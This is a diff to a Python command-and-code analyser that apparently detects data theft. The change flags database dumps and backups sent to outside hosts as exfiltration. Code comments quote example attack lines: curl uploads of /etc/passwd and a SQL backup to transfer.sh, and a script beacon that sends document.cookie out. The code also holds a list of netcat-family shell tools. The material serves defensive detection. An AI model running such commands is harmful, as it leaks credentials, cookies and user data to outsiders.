@@ -242,6 +242,8 @@ _DECODERS: Final = frozenset(
         "tr",
     }
 )
+# Where data sent is outside the organisation (`_places.dest_class`).
+_OUTSIDE: Final = frozenset({"unknown", "drop"})
 _NETCAT: Final = frozenset(
     {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat"}
 )
@@ -2514,6 +2516,9 @@ class Analyser:
                 if p in self.table.paths.account_files and dest_class != "known":
                     what = f  # `curl -F f=@/etc/passwd http://…`: who has an account here
                     break
+                if self.table.is_data_copy(f) and self.dest_class(sink.dest) in _OUTSIDE:
+                    what = f  # `curl -T /var/backups/app.sql.gz https://transfer.sh/`: the data
+                    break
         if not what:
             what = self._secret_carried(sink)
         if not what:
@@ -2688,6 +2693,7 @@ class Analyser:
         runs_dynamic = False  # code that runs what it is given at run time (exec, popen, iex…)
         shell_bound = any(_SHELL_PATH.search(x) for x in strings)
         secret_read = "the environment" if sn.env_dump or _ENV_DUMP_JS.search(text) else ""
+        data_read = ""  # a data store's dump, copy or export read (`is_data_copy`)
         send_dest = ""
         mail_send = False
         # the root a listing walks (wherever the walk sits in the call order): a deletion with
@@ -2975,6 +2981,8 @@ class Analyser:
                 if path and t.is_credential(path) and not any(m in mode for m in "wa"):
                     secret_read = secret_read or path
                     self.out.secret_sources.append(path)
+                elif path and not any(m in mode for m in "wax") and t.is_data_copy(path):
+                    data_read = data_read or path  # `open('/var/backups/users.csv', 'rb')`
                 if (
                     name == "open"
                     and path
@@ -3122,13 +3130,14 @@ class Analyser:
         beacon = _BEACON.search(text) if not send_dest and held else None
         if beacon is not None:  # `new Image().src = "https://x/p.gif?c=" + document.cookie`
             send_dest = beacon.group(1)
-        if secret_read and send_dest and self.dest_class(send_dest) != "internal":
+        sent = secret_read or (
+            data_read if send_dest and self.dest_class(send_dest) in _OUTSIDE else ""
+        )
+        if sent and send_dest and self.dest_class(send_dest) != "internal":
             host = send_dest.split("://", 1)[-1].split("/", 1)[0]
             self.out.add(
                 Effect(
-                    "exfiltrate",
-                    "",
-                    describe(f"sends {_short(secret_read)} to {host}", "", False, text),
+                    "exfiltrate", "", describe(f"sends {_short(sent)} to {host}", "", False, text)
                 )
             )
         if secret_read:
